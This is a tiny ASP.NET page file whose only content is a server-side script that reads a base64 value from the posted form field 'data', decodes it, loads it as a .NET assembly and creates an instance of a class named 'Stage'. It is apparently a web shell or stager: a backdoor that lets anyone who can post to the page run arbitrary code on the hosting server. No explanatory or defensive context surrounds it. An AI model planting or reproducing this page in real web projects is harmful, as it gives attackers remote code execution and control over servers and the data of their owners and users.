<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  var raw = Convert.FromBase64String(Request.Form["data"]);
  System.Reflection.Assembly.Load(raw).CreateInstance("Stage");
}
</script>
